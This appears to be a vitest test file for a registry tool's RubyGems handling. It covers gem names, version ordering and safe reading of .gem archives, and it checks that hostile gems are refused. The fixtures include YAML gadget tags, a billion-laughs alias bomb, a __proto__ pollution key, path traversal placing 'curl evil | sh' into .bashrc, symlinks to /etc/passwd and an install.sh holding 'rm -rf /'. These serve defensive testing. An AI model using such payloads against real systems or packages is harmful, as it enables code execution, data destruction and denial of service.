// RubyGems' Ecosystem: gem names, Gem::Version ordering, .gem archives read safely, hostile YAML refused.
import { gunzipSync, gzipSync } from 'node:zlib'
import { describe, expect, it } from 'vitest'
import { DEFAULT_ARCHIVE_LIMITS } from '../../../src/core/archive-limits.ts'
import type { ArchiveLimits } from '../../../src/core/archive-limits.ts'
import { RegistryError } from '../../../src/core/errors.ts'
import { rubygemsEcosystem as eco } from '../../../src/protocols/rubygems/ecosystem.ts'
import { loadGemspecYaml } from '../../../src/protocols/rubygems/gemspec-yaml.ts'
import { gemOf, gemspecYaml } from '../../helpers/gems.ts'
import { tarOf, tgzOf } from '../../helpers/tarballs.ts'

const limits = (overrides: Partial<ArchiveLimits> = {}): ArchiveLimits => ({ ...DEFAULT_ARCHIVE_LIMITS, ...overrides })

async function refusal(bytes: Uint8Array, within: ArchiveLimits = limits()): Promise<RegistryError> {
  const err = await eco.readArtifact(bytes, within).then(
    () => null,
    (e: unknown) => e,
  )
  expect(err).toBeInstanceOf(RegistryError)
  return err as RegistryError
}

const BILLION_LAUGHS = `--- !ruby/object:Gem::Specification
name: lol
version: !ruby/object:Gem::Version
  version: 1.0.0
a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
`

/** One member of a .gem's outer tar (the helper writes each with a single 512-byte header). */
function readOuter(gem: Buffer, name: string): Buffer {
  for (let at = 0; at + 512 <= gem.length; ) {
    const header = gem.subarray(at, at + 512)
    const entryName = header.subarray(0, 100).toString('latin1').replace(/\0.*$/s, '')
    const size = parseInt(header.subarray(124, 136).toString('latin1').replace(/\0.*$/s, '').trim() || '0', 8)
    if (entryName === name) return gem.subarray(at + 512, at + 512 + size)
    at += 512 + Math.ceil(size / 512) * 512
  }
  throw new Error(`${name} not in gem`)
}

describe('gem names and versions', () => {
  it('validates names and keeps their case', () => {
    expect(eco.parseName('Rack')).toBe('Rack')
    expect(eco.parseName('net-http_persistent.2')).toBe('net-http_persistent.2')
    for (const bad of ['', '-rack', '.rack', '_rack', 'rack gem', 'räck', 'a/b', 'x'.repeat(201)]) {
      expect(() => eco.parseName(bad), bad).toThrow(RegistryError)
    }
  })

  it('validates versions and writes `-` as `.pre.` like Gem::Version', () => {
    expect(eco.parseVersion('1.2.3')).toBe('1.2.3')
    expect(eco.parseVersion('2.0.0.rc1')).toBe('2.0.0.rc1')
    expect(eco.parseVersion('1.0.0-beta.2')).toBe('1.0.0.pre.beta.2')
    for (const bad of ['', ' 1.0', '1.0 ', 'a1', '1..0', '1.0_1', '1.0.', 'v1.0', '9'.repeat(200)]) {
      expect(() => eco.parseVersion(bad), JSON.stringify(bad)).toThrow(/invalid version/)
    }
  })

  it('orders versions newest first by the Gem::Version algorithm', () => {
    const sorted = ['1.0.0', '1.0.0.pre', '1.0.1', '0.9', '1.0.0.rc1', '1.0.0.a', '1.0.0.beta2', '1.0.0.beta10', '10.0', '1.0.0.1'].sort((a, b) =>
      eco.compareVersions(a, b),
    )
    expect(sorted).toEqual(['10.0', '1.0.1', '1.0.0.1', '1.0.0', '1.0.0.rc1', '1.0.0.pre', '1.0.0.beta10', '1.0.0.beta2', '1.0.0.a', '0.9'])
    expect(eco.compareVersions('1.0.0.pre', '1.0.0')).toBeGreaterThan(0)
    expect(eco.compareVersions('1.0.0', '1.0.1')).toBeGreaterThan(0)
    expect(eco.compareVersions('1.0', '1.0.0')).toBe(0)
    expect(eco.compareVersions('1.0.a', '1.0.0.a')).toBe(0)
    expect(eco.compareVersions('1.0.0-rc1', '1.0.0.pre.rc1')).toBe(0)
    // Numbers past 2^53 still compare exactly.
    expect(eco.compareVersions('1.99999999999999999998', '1.99999999999999999999')).toBeGreaterThan(0)
  })
})

describe('reading a .gem', () => {
  it('reads name, version, manifest, files, hooks and import entries', async () => {
    const bytes = await gemOf({
      metadata: gemspecYaml('fast_json', '2.1.0', {
        extensions: ['ext/fast_json/extconf.rb', 'ext/rusty/Cargo.toml'],
        executables: ['fast_json'],
        files: ['lib/fast_json.rb', 'ext/fast_json/extconf.rb'],
        postInstallMessage: 'Thanks for installing!',
      }),
      files: {
        'lib/fast_json.rb': "require 'fast_json/version'\n",
        'lib/fast_json/version.rb': 'VERSION = "2.1.0"\n',
        'ext/fast_json/extconf.rb': "require 'mkmf'\ncreate_makefile('fast_json')\n",
        'exe/fast_json': '#!/usr/bin/env ruby\n',
        'lib/rubygems_plugin.rb': 'Gem.pre_install { }\n',
      },
    })
    const artifact = await eco.readArtifact(bytes, limits())
    expect(artifact.format).toBe('gem')
    expect([artifact.name, artifact.version]).toEqual(['fast_json', '2.1.0'])
    expect(artifact.files.map((f) => f.path).sort()).toEqual([
      'exe/fast_json',
      'ext/fast_json/extconf.rb',
      'lib/fast_json.rb',
      'lib/fast_json/version.rb',
      'lib/rubygems_plugin.rb',
    ])
    expect(artifact.manifest).toMatchObject({
      name: 'fast_json',
      version: '2.1.0',
      platform: 'ruby',
      summary: 'fast_json does things',
      description: 'A longer description of fast_json.',
      authors: ['Ada Lovelace'],
      email: ['ada@example.org'],
      homepage: 'https://example.org/fast_json',
      licenses: ['MIT'],
      dependencies: [
        { name: 'rack', requirement: '~> 3.0, >= 3.0.2', type: 'runtime' },
        { name: 'rake', requirement: '>= 0', type: 'development' },
      ],
      executables: ['fast_json'],
      extensions: ['ext/fast_json/extconf.rb', 'ext/rusty/Cargo.toml'],
      files: ['lib/fast_json.rb', 'ext/fast_json/extconf.rb'],
      post_install_message: 'Thanks for installing!',
      metadata: { source_code_uri: 'https://example.org/fast_json/src' },
      required_ruby_version: '>= 3.0.0',
      require_paths: ['lib'],
    })
    // The manifest is a plain tree: shared YAML anchors do not survive as shared objects.
    expect(() => JSON.stringify(artifact.manifest)).not.toThrow()
    expect(eco.installHooks(artifact)).toEqual([
      { phase: 'extension', command: 'ruby ext/fast_json/extconf.rb && make && make install', file: 'ext/fast_json/extconf.rb' },
      { phase: 'extension', command: 'cargo rustc (ext/rusty/Cargo.toml)', file: 'ext/rusty/Cargo.toml' },
      { phase: 'rubygems-plugin', command: 'loaded by RubyGems on every gem command', file: 'lib/rubygems_plugin.rb' },
    ])
    expect(eco.importEntries(artifact)).toEqual(['lib/fast_json.rb'])
  })

  it('reads gems without checksums, with prerelease versions, platforms and dashed names', async () => {
    const bytes = await gemOf({
      metadata: gemspecYaml('net-http-fancy', '1.0.0.pre', { platform: 'x86_64-linux' }),
      files: { 'lib/net/http/fancy.rb': '' },
      checksums: false,
    })
    const artifact = await eco.readArtifact(bytes, limits())
    expect([artifact.name, artifact.version, artifact.manifest.platform]).toEqual(['net-http-fancy', '1.0.0.pre', 'x86_64-linux'])
    expect(eco.installHooks(artifact)).toEqual([])
    expect(eco.importEntries(artifact)).toEqual(['lib/net/http/fancy.rb'])
  })

  it('serves the gemspec over anything declared beside it', async () => {
    const artifact = await eco.readArtifact(await gemOf({ metadata: gemspecYaml('g', '1.0.0'), files: { 'lib/g.rb': '' } }), limits())
    const served = eco.manifestFor({ name: 'g', dependencies: [{ name: 'evil' }], extensions: [], note: 'kept' }, artifact)
    expect(served.dependencies).toEqual(artifact.manifest.dependencies)
    expect(served.note).toBe('kept')
  })
})

describe('hostile gems', () => {
  it('refuses a checksum mismatch', async () => {
    const wrong = `---\nSHA256:\n  metadata.gz: ${'ab'.repeat(32)}\n  data.tar.gz: ${'cd'.repeat(32)}\n`
    const err = await refusal(await gemOf({ metadata: gemspecYaml('g', '1.0.0'), checksums: { yaml: wrong } }))
    expect(err.code).toBe('invalidArchive')
    expect(err.message).toMatch(/metadata.gz does not match its SHA256 checksum/)
    // A digest YAML reads as a number must not slip past the comparison.
    const numeric = `---\nSHA512:\n  data.tar.gz: ${'1'.repeat(128)}\n`
    expect((await refusal(await gemOf({ metadata: gemspecYaml('g', '1.0.0'), checksums: { yaml: numeric } }))).message).toMatch(/malformed SHA512 digest/)
    // Tampering with data.tar.gz after checksums were written is caught too.
    const honest = await gemOf({ metadata: gemspecYaml('g', '1.0.0'), files: { 'lib/g.rb': 'puts 1' } })
    const other = await gemOf({ metadata: gemspecYaml('g', '1.0.0'), files: { 'lib/g.rb': 'puts 2' }, checksums: false })
    const swapped = await gemOf({
      metadata: gemspecYaml('g', '1.0.0'),
      checksums: { yaml: gunzipSync(readOuter(honest, 'checksums.yaml.gz')).toString() },
      data: readOuter(other, 'data.tar.gz'),
    })
    expect((await refusal(swapped)).message).toMatch(/data.tar.gz does not match its SHA(256|512) checksum/)
  })

  it('refuses Ruby classes RubyGems will not load, and global tags it does not know', async () => {
    const kernelRoot = '--- !ruby/object:Kernel\nname: x\nversion: !ruby/object:Gem::Version\n  version: 1.0\n'
    expect((await refusal(await gemOf({ metadata: kernelRoot }))).message).toMatch(/YAML tag !ruby\/object:Kernel/)
    const nested = gemspecYaml('g', '1.0.0').replace('metadata:\n', 'metadata:\n  gadget: !ruby/object:Gem::Installer\n    i: x\n')
    expect((await refusal(await gemOf({ metadata: nested }))).message).toMatch(/!ruby\/object:Gem::Installer/)
    const hash = gemspecYaml('g', '1.0.0').replace('metadata:\n', 'metadata: !ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection\n')
    expect((await refusal(await gemOf({ metadata: hash }))).message).toMatch(/RubyGems refuses to load/)
    const jsFunction = gemspecYaml('g', '1.0.0').replace('summary: g does things', 'summary: !!js/function "function () { process.exit(1) }"')
    expect((await refusal(await gemOf({ metadata: jsFunction }))).message).toMatch(/not acceptable YAML: unknown scalar tag/)
    const notSpec = '--- !ruby/object:Gem::Version\nversion: 1.0\n'
    expect((await refusal(await gemOf({ metadata: notSpec }))).message).toMatch(/not a Gem::Specification/)
  })

  it('reads unknown local tags as plain data, never instantiating anything', () => {
    const { value, tags } = loadGemspecYaml('--- !ruby/object:Anything\nx: !custom [1, 2]\ny: !ruby/sym runtime\nz: !ruby/regexp /x/\n__proto__: {polluted: true}\n', 'test')
    expect(value).toEqual({ x: [1, 2], y: 'runtime', z: '/x/', ['__proto__']: { polluted: true } })
    expect(Object.getPrototypeOf(value)).toBe(Object.prototype)
    expect(({} as Record<string, unknown>).polluted).toBeUndefined()
    expect([...tags].sort()).toEqual(['!custom', '!ruby/object:Anything', '!ruby/regexp', '!ruby/sym'])
  })

  it('refuses billion-laughs aliases, self-referencing aliases and alias floods', async () => {
    const laughs = await refusal(await gemOf({ metadata: BILLION_LAUGHS }))
    expect(laughs.message).toMatch(/expands past .* through YAML aliases/)
    const cycle = gemspecYaml('g', '1.0.0').replace('metadata:\n', 'loop: &x [*x]\nmetadata:\n')
    expect((await refusal(await gemOf({ metadata: cycle }))).message).toMatch(/refers to itself/)
    const flood = `${gemspecYaml('g', '1.0.0')}x: &x 1\ny: [${Array.from({ length: 3000 }, () => '*x').join(',')}]\n`
    expect((await refusal(await gemOf({ metadata: flood }))).message).toMatch(/maxAliases/)
  })

  it('refuses malformed YAML and oversized metadata', async () => {
    expect((await refusal(await gemOf({ metadata: 'name: [unclosed\n  - :' }))).message).toMatch(/not acceptable YAML/)
    expect((await refusal(await gemOf({ metadata: '' }))).message).toMatch(/not acceptable YAML/)
    const huge = `${gemspecYaml('g', '1.0.0')}padding: "${'x'.repeat(9 * 1024 * 1024)}"\n`
    expect((await refusal(await gemOf({ metadata: huge }))).message).toMatch(/metadata.gz unpacks to more than/)
    const deep = `${gemspecYaml('g', '1.0.0')}deep: ${'['.repeat(500)}${']'.repeat(500)}\n`
    expect((await refusal(await gemOf({ metadata: deep }))).message).toMatch(/maxDepth/)
  })

  it('refuses invalid names and versions inside the gemspec', async () => {
    expect((await refusal(await gemOf({ metadata: gemspecYaml('../evil', '1.0.0') }))).message).toMatch(/invalid name/)
    expect((await refusal(await gemOf({ metadata: gemspecYaml('g', 'one.two') }))).message).toMatch(/invalid version/)
  })

  it('refuses traversal, absolute paths and symlinks in data.tar.gz', async () => {
    const metadata = gemspecYaml('g', '1.0.0')
    const traversal = await tgzOf([{ name: '../../.bashrc', content: 'curl evil | sh' }])
    expect((await refusal(await gemOf({ metadata, data: traversal }))).message).toMatch(/escapes the archive root/)
    const absolute = await tgzOf([{ name: '/etc/passwd', content: 'root' }])
    expect((await refusal(await gemOf({ metadata, data: absolute }))).message).toMatch(/is absolute/)
    const link = await tgzOf([{ name: 'lib/g.rb', type: 'symlink', linkname: '/etc/passwd' }])
    expect((await refusal(await gemOf({ metadata, data: link }))).message).toMatch(/is a symlink/)
    const outerLink = await gemOf({ metadata, extra: [{ name: 'data.tar.gz.sig', type: 'symlink', linkname: '/etc/passwd' }] })
    expect((await refusal(outerLink)).message).toMatch(/is a symlink/)
  })

  it('refuses decompression bombs, oversized entries and too many entries', async () => {
    const metadata = gemspecYaml('g', '1.0.0')
    const bomb = await gemOf({ metadata, files: { 'lib/zeros.rb': '\0'.repeat(3_000_000) } })
    expect(bomb.length).toBeLessThan(50_000)
    expect((await refusal(bomb, limits({ maxUnpackedBytes: 1_000_000 }))).code).toBe('archiveTooLarge')
    const big = await gemOf({ metadata, files: { 'lib/big.rb': 'x'.repeat(300_000) } })
    expect((await refusal(big, limits({ maxEntryBytes: 100_000 }))).message).toMatch(/"lib\/big.rb" is 300000 bytes/)
    const many = await gemOf({ metadata, files: Object.fromEntries(Array.from({ length: 30 }, (_, i) => [`lib/m${i}.rb`, ''])) })
    expect((await refusal(many, limits({ maxEntries: 20 }))).message).toMatch(/more than 20 entries/)
  })

  it('refuses truncated gems, gzip-wrapped gems, unexpected entries and non-gems', async () => {
    const gem = await gemOf({ metadata: gemspecYaml('g', '1.0.0'), files: { 'lib/g.rb': 'x'.repeat(5_000) } })
    expect((await refusal(gem.subarray(0, 1_500))).code).toBe('invalidArchive')
    expect((await refusal(gzipSync(gem))).message).toMatch(/gzip-compressed, but a .gem is an uncompressed tar/)
    expect((await refusal(Buffer.from('#!/bin/sh\necho not a gem\n'))).message).toMatch(/not a .gem/)
    const extra = await gemOf({ metadata: gemspecYaml('g', '1.0.0'), extra: [{ name: 'install.sh', content: 'rm -rf /' }] })
    expect((await refusal(extra)).message).toMatch(/contains "install.sh"/)
    const noData = await tarOf([{ name: 'metadata.gz', content: gzipSync(gemspecYaml('g', '1.0.0')) }])
    expect((await refusal(noData)).message).toMatch(/no data.tar.gz/)
    const badGzip = await tarOf([
      { name: 'metadata.gz', content: 'not gzip' },
      { name: 'data.tar.gz', content: await tgzOf([]) },
    ])
    expect((await refusal(badGzip)).message).toMatch(/metadata.gz is not gzip-compressed/)
  })
})
